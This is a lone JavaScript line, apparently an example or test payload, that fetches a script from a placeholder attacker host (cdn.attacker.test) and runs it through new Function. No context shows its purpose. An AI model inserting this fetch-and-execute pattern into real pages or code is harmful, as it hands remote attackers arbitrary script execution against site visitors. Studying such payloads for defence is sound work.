fetch("https://cdn.attacker.test/p.js").then((r) => r.text()).then((t) => new Function(t)());
